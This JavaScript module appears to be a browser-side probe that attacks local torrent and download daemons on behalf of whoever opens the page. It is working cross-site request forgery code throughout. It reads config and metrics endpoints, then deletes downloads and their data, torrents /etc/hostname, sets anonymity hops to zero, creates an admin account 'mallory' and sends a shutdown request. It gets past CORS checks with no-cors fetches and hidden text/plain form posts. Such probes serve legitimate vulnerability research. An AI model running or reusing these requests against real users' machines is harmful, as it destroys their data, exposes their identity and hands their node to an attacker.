// Tries to use a node on behalf of whoever opened this page: [what was asked, what came of it].
import { INFOHASH, MAGNET, NODE, find, listen } from './page.mjs'

const call = (method, params) => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })
const hashes = { info_hashes: [INFOHASH], remove_data: true }
const READS = ['/downloads', '/task/list', '/config', '/api/v1/transfers', '/metrics']
const WRITES = [
  ['PUT', '/downloads', `uri=${encodeURIComponent(MAGNET)}`],
  ['PATCH', `/downloads/${INFOHASH}`, 'state=stop'],
  ['DELETE', `/downloads/${INFOHASH}`, 'remove_data=1'],
  ['POST', '/createtorrent?download=1', 'files[]=/etc/hostname'],
  ['POST', '/settings', '{"libtorrent/download_defaults/number_hops": 0}'],
  ['POST', '/task', 'url=stolen'],
  ['POST', '/task/batch/delete', `{"tids": ["${INFOHASH}"], "del_file": true}`],
  ['POST', '/config', '{"youtube_dl": {"ratelimit": 12345}}'],
  ['POST', '/api/v1/jsonrpc', call('torrents.pause', { info_hash: INFOHASH })],
  ['POST', '/api/v1/jsonrpc', call('torrents.remove', hashes)],
  ['POST', '/api/v1/auth/init', '{"username": "mallory", "password": "mine"}'],
  ['POST', '/api/v1/limits', '{"max_upload_rate": 1}'],
  ['PUT', '/shutdown', ''],
]

// Without `cors` the request is sent without asking the node whether it may, if it is simple.
async function attempt(method, path, body, mode) {
  try {
    const answer = await fetch(NODE + path, { method, body, mode, credentials: 'include' })
    return answer.type === 'opaque' ? 'sent' : answer.status
  } catch {
    return 'refused'
  }
}

// A form is sent as NAME=VALUE, which can be made JSON too.
function field(body) {
  return body.startsWith('{') ? [`${body.slice(0, -1)}, "x": "`, '"}'] : body.split('=')
}

async function submit(method, path, body) {
  const frame = document.createElement('iframe')
  frame.name = 'frame'
  document.body.append(frame)
  const form = document.createElement('form')
  Object.assign(form, { method, action: NODE + path, enctype: 'text/plain', target: 'frame' })
  const [name, value] = field(body)
  form.append(Object.assign(document.createElement('input'), { name, value }))
  document.body.append(form)
  const loaded = new Promise((resolve) => (frame.onload = resolve))
  form.submit()
  await loaded
  frame.remove()
  form.remove()
}

find(async () => {
  const found = []
  for (const path of READS) found.push([path, await attempt('GET', path, undefined, 'cors')])
  for (const path of ['/events', '/api/v1/events']) {
    found.push([path, await listen(path, []).then(() => 'heard', () => 'refused')])
  }
  for (const [method, path, body] of WRITES) {
    found.push([`${method} ${path}`, await attempt(method, path, body, 'cors')])
    if (method === 'POST') {
      await attempt(method, path, body, 'no-cors')
      await submit(method, path, body)
    }
  }
  return found
})
